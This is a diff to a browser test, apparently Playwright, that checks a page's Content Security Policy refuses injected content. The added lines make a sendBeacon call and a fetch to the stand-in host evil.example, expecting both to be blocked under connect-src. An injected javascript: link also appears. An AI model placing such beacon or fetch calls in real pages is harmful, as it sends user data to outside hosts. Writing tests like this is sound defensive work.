@@ -361,13 +361,20 @@ test("the guard of these tests sees what would be let in, and the page’s polic
     const link = Object.assign(document.createElement("a"), { href: "javascript:window.__hit=1", id: "injected" });
     document.body.append(link);
     link.click();
+    navigator.sendBeacon("https://evil.example/beacon", "x");
+    await fetch("https://evil.example/?x").then(
+      () => undefined,
+      () => out.push("a request to elsewhere"),
+    );
     return out;
   });
-  expect(refused).toEqual(["markup", "a worker of elsewhere", "a script in a data address"]);
+  expect(refused).toEqual(["markup", "a worker of elsewhere", "a script in a data address", "a request to elsewhere"]);
   const found = (): Promise<string> =>
     page.evaluate(() => (window as unknown as { __found: string[] }).__found.join(" "));
   await expect.poll(found).toContain("injected");
   await expect.poll(found).toContain("refused script-src");
+  // The beacon and the request: the network here would answer neither, so it is the policy that is asked.
+  await expect.poll(found).toMatch(/refused connect-src.*refused connect-src/);
   expect(await page.evaluate(() => "__hit" in window)).toBe(false);
   await expect(expectNobodyIn(page)).rejects.toThrow();
   await context.close();
